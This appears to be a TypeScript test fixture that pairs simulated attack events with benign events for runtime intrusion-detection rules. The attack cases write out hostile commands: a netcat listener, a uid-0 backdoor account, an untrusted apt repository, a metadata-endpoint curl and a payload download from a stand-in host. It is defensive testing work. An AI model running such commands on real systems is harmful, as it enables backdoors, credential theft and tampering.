import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

export const CHANGE_ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'Unexpected inbound connection source',
    attack: onHost('/usr/bin/nc', 'nc -l -p 4444', 'sh', {
      'fd.name': '198.51.100.7:40000->10.0.0.5:4444',
    }),
    usual: inPod('/usr/sbin/nginx', 'nginx', 'nginx', {
      'fd.name': '198.51.100.7:40000->10.0.0.5:443',
      'fd.sport': 443,
    }),
  },
  {
    rule: 'Unexpected K8s NodePort Connection',
    attack: inPod('/usr/bin/nmap', 'nmap -p 30000-32767 10.0.0.0/24', 'sh', {
      'fd.name': '10.0.0.5:40000->10.0.0.9:30080',
    }),
    usual: inPod('/usr/local/bin/envoy', 'envoy', 'tini', {
      'fd.name': '10.0.0.5:40000->10.0.0.9:30080',
    }),
  },
  {
    rule: 'Unexpected outbound connection destination',
    attack: inPod('/usr/bin/python3.11', 'python3 -c import socket', 'sh', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
    usual: onHost('/usr/bin/dnf', 'dnf makecache', 'systemd', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
  },
  {
    rule: 'Unexpected UDP Traffic',
    attack: inPod('/tmp/kworker', 'kworker', 'sh', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:6881',
    }),
    usual: onHost('/usr/sbin/rsyslogd', 'rsyslogd -n', 'systemd', {
      'fd.name': '10.0.0.5:40000->10.0.0.9:514',
    }),
  },
  {
    rule: 'Unprivileged Delegation of Page Faults Handling to a Userspace Process',
    attack: onHost('/home/ann/a.out', 'a.out', 'bash', PERSON),
    usual: onHost('/usr/bin/qemu-system-x86_64', 'qemu-system-x86_64 -m 4096', 'libvirtd', {
      'user.name': 'libvirt-qemu',
      'user.uid': 64055,
    }),
  },
  {
    rule: 'Update Package Repository',
    attack: onHost(
      '/usr/bin/bash',
      'bash -c echo deb [trusted=yes] http://198.51.100.7/ ./',
      'sh',
      {
        'fd.name': '/etc/apt/sources.list.d/x.list',
      },
    ),
    usual: onHost('/usr/bin/tee', 'tee /etc/apt/sources.list.d/docker.list', 'sudo', {
      ...PERSON,
      'fd.name': '/etc/apt/sources.list.d/docker.list',
    }),
  },
  {
    rule: 'User mgmt binaries',
    attack: onHost('/usr/sbin/useradd', 'useradd -o -u 0 sysd', 'apache2'),
    usual: onHost('/usr/sbin/useradd', 'useradd --system postgres', 'postinst', {
      'proc.aname[2]': 'dpkg',
      'proc.aname[3]': 'apt-get',
    }),
  },
  {
    rule: 'Web Server Spawned Shell',
    attack: inPod('/usr/bin/sh', 'sh -c id', 'php-fpm'),
    usual: inPod('/usr/bin/sh', 'sh -c convert in.png out.jpg', 'php-fpm'),
  },
  {
    rule: 'Web Server Spawned Suspicious Child Process',
    attack: inPod('/usr/bin/curl', 'curl http://169.254.169.254/latest/', 'apache2'),
    usual: inPod('/usr/bin/python3.11', 'python3 -m shop.jobs', 'gunicorn'),
  },
  {
    rule: 'Write below binary dir',
    attack: onHost('/usr/bin/cp', 'cp x /usr/bin/ps', 'sh', { 'fd.name': '/usr/bin/ps' }),
    usual: onHost('/usr/bin/install', 'install kubectl /usr/bin/kubectl', 'bash', {
      ...PERSON,
      'fd.name': '/usr/bin/kubectl',
    }),
  },
  {
    rule: 'Write below monitored dir',
    attack: onHost('/usr/bin/cp', 'cp x /usr/local/bin/ls', 'sh', {
      'fd.name': '/usr/local/bin/ls',
    }),
    usual: onHost('/usr/bin/install', 'install tool /usr/local/bin/tool', 'bash', {
      ...PERSON,
      'fd.name': '/usr/local/bin/tool',
    }),
  },
  {
    rule: 'Write below root',
    attack: onHost('/usr/bin/curl', 'curl -o /root/x http://198.51.100.7/x', 'sh', {
      'fd.name': '/root/x',
    }),
    usual: onHost('/usr/bin/vim', 'vim notes', 'bash', {
      ...PERSON,
      'fd.name': '/root/.viminfo',
    }),
  },
  {
    rule: 'Write below rpm database',
    attack: onHost('/usr/bin/sqlite3', 'sqlite3 /var/lib/rpm/rpmdb.sqlite', 'sh', {
      'fd.name': '/var/lib/rpm/rpmdb.sqlite',
    }),
    usual: onHost('/usr/libexec/packagekitd', 'packagekitd', 'systemd', {
      'fd.name': '/var/lib/rpm/rpmdb.sqlite',
    }),
  },
]
